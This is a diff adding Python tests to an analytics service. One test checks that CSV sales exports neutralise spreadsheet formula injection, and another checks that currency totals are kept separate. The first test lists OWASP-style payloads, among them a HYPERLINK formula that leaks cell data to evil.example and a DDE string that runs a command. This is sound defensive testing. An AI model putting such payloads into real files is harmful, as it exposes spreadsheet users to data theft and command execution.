@@ -8,6 +8,8 @@ recommendations, and that a duplicate delivery changes nothing.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any
 
@@ -555,3 +557,89 @@ async def test_an_action_without_a_region_shows_the_accounts_region(
 
 async def _count(found: Any, n: int) -> bool:
     return len(await found()) == n
+
+
+# Cells a spreadsheet would run as a formula (OWASP's CSV injection list).
+FORMULA_IDS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_sales_csv_neutralises_cells_a_spreadsheet_would_run(
+    analytics: AnalyticsHarness,
+) -> None:
+    h = analytics
+    for n, pid in enumerate(FORMULA_IDS):
+        product = ProductCreated(product_id=pid, name=pid, category="x", price_cents=100)
+        placed, items, _ = order(f"f{n}", U1, (pid, 1, 100))
+        await h.publish(env(product, pid, ADMIN), placed, confirmed(f"f{n}", "u1", items))
+
+    async def all_confirmed() -> bool:
+        return await h.deps.store.order_facts.count_documents({"status": "CONFIRMED"}) == len(
+            FORMULA_IDS
+        )
+
+    await eventually(all_confirmed, what="every order confirmed")
+    response = await h.client.get(
+        "/api/v1/reports/sales",
+        params={"groupBy": "product", "format": "csv"},
+        headers=h.headers("m", "Manager"),
+    )
+    assert response.status_code == 200
+    header, *rows = csv.reader(io.StringIO(response.text, newline=""))
+    assert header == ["key", "orders", "revenueCents"]
+    keys = [row[0] for row in rows]
+    # Each key is still readable (a leading quote, the text kept), none starts a formula.
+    assert sorted(keys) == sorted(f"'{pid}" for pid in FORMULA_IDS)
+    assert all(row[1:] == ["1", "100"] for row in rows)
+    # JSON is no spreadsheet: it keeps the keys as they are.
+    report = await h.get("/api/v1/reports/sales", groupBy="product")
+    assert sorted(g["key"] for g in report["groups"]) == sorted(FORMULA_IDS)
+
+
+async def test_sales_totals_never_add_two_currencies(analytics: AnalyticsHarness) -> None:
+    h = analytics
+    placed, items, _ = order("usd1", U1, ("p-usd", 2, 500))
+    await h.publish(placed, confirmed("usd1", "u1", items))
+    for order_id, status in (("eur1", "CONFIRMED"), ("eur2", "PENDING")):
+        placed, items, _ = order(order_id, U2, ("p-eur", 1, 700))
+        await h.publish(
+            placed.model_copy(update={"data": placed.data.model_copy(update={"currency": "EUR"})})
+        )
+        if status == "CONFIRMED":
+            done = confirmed(order_id, "u2", items)
+            await h.publish(
+                done.model_copy(update={"data": done.data.model_copy(update={"currency": "EUR"})})
+            )
+
+    async def folded() -> bool:
+        return (
+            await h.deps.store.order_facts.count_documents({"status": "CONFIRMED"}) == 2
+            and await h.deps.store.order_facts.count_documents({"currency": "EUR"}) == 2
+        )
+
+    await eventually(folded, what="three orders folded")
+    usd = await h.get("/api/v1/reports/sales", role="Manager", groupBy="product")
+    assert usd["currency"] == "USD"
+    assert usd["revenueCents"] == 1000
+    assert usd["averageOrderValueCents"] == 1000
+    assert usd["ordersByStatus"] == {"CONFIRMED": 1}
+    assert [p["productId"] for p in usd["topProducts"]] == ["p-usd"]
+    assert [(g["key"], g["orders"], g["revenueCents"]) for g in usd["groups"]] == [
+        ("p-usd", 1, 1000)
+    ]
+    assert usd["currencies"] == ["EUR", "USD"]  # what else the window holds
+    eur = await h.get("/api/v1/reports/sales", role="Manager", currency="EUR")
+    assert eur["currency"] == "EUR"
+    assert eur["revenueCents"] == 700
+    assert eur["ordersByStatus"] == {"CONFIRMED": 1, "PENDING": 1}
+    assert sum(g["revenueCents"] for g in eur["groups"]) == 700
+    odd = await h.client.get(
+        "/api/v1/reports/sales", params={"currency": "eur"}, headers=h.headers("m", "Manager")
+    )
+    assert odd.status_code == 422 and odd.json()["code"] == "VALIDATION_ERROR"
